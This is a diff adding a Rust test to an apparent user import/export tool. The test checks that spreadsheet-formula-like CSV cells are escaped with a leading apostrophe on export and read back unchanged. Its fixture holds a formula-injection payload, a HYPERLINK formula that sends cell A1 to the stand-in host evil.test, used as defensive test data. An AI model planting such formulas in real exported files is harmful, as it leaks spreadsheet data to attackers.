@@ -474,3 +474,34 @@ fn an_import_cannot_leave_an_organization_without_an_administrator() {
     assert!(output.err.ends_with("nothing was imported\n"));
     assert_eq!(db.revision(), revision);
 }
+
+#[test]
+fn a_name_that_begins_like_a_formula_is_exported_as_text_and_imported_back() {
+    // Arrange: names, an email and an id a spreadsheet would run.
+    let first = Database::new();
+    let row = "acme,-emp-eve,=HYPERLINK(\"http://evil.test/?\"&A1),+Eve,-eve@acme.test,eve,active,web.office_staff,,,,,";
+    assert_eq!(first.import(&first.file("users.csv", &[row])).code, 0);
+
+    // Act
+    let exported = first.export(None);
+    let second = Database::new();
+    let path = second.dir.path().join("exported.csv");
+    std::fs::write(&path, &exported.out).unwrap();
+    let imported = second.import(&path);
+
+    // Assert: every such cell led by `'`, and read back as it was.
+    assert!(
+        exported.out.contains(
+            "acme,'-emp-eve,\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1)\",'+Eve,'-eve@acme.test,eve,"
+        ),
+        "{}",
+        exported.out
+    );
+    assert_eq!(imported.code, 0, "{}", imported.err);
+    assert_eq!(second.export(None).out, exported.out);
+    assert!(second
+        .export(None)
+        .out
+        .lines()
+        .all(|line| !line.contains(",=") && !line.starts_with('=')));
+}
